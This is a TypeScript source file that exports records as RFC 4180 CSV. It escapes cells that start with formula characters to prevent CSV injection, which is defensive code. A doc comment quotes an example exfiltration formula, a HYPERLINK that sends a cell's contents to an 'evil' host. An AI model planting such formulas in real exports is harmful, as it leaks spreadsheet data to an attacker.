import { stringify } from 'csv-stringify/sync';
import { cellText, ownField } from './cell-text.js';
import { uniqueLineBatches } from '../core/sync/spool-reader.js';
import type { TextSink } from './text-sink.js';
import type { Spool } from '../core/sync/writers.js';

const options = {
  record_delimiter: '\r\n',
  // csv-stringify quotes a field holding the record delimiter, but not a lone '\n' or '\r'
  // inside it; unquoted, those would split the record for Python's csv module and Excel.
  quoted_match: /[\r\n]/,
} as const;

/**
 * A cell that a spreadsheet would run as a formula, shown as text instead: a leading `'` before
 * `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP "CSV Injection"; CLI.md). Excel and
 * LibreOffice hide the `'` and show the rest; a platform value such as
 * `=HYPERLINK("http://evil/?"&A1,"click")` would otherwise run on the reader's machine.
 */
export function escapeFormula(text: string): string {
  switch (text.charCodeAt(0)) {
    case 0x3d: // =
    case 0x2b: // +
    case 0x2d: // -
    case 0x40: // @
    case 0x09: // tab
    case 0x0d: // CR
      return `'${text}`;
    default:
      return text;
  }
}

export interface CsvOptions {
  /** Cells and header names exactly as sent (no formula escaping): for programs, not spreadsheets. */
  raw?: boolean;
}

/**
 * The spool as CSV (RFC 4180: CRLF, quotes doubled): a BOM, a header of the spool's fields,
 * then one record per key, every value as text, formulas escaped unless `raw`. Returns the
 * number of records.
 */
export async function writeCsv(spool: Spool, out: TextSink, opts: CsvOptions = {}): Promise<number> {
  const cell = opts.raw ? (text: string): string => text : escapeFormula;
  const fields = spool.fields;
  if (fields.length === 0) {
    // No records, so no fields: an empty sheet rather than a header of nothing.
    await out.write('\uFEFF');
    return 0;
  }
  // Excel only reads a CSV as UTF-8 (and so shows Chinese text) when it starts with a BOM.
  await out.write(stringify([fields.map(cell)], { ...options, bom: true }));
  let count = 0;
  // One synchronous stringify per chunk of lines: a streaming stringifier costs a callback per record.
  for await (const batch of uniqueLineBatches(spool)) {
    const records = batch.map((line) => {
      const row = JSON.parse(line) as Record<string, unknown>;
      return fields.map((f) => {
        const text = cellText(ownField(row, f));
        return text === undefined ? '' : cell(text);
      });
    });
    count += records.length;
    await out.write(stringify(records, options));
  }
  return count;
}
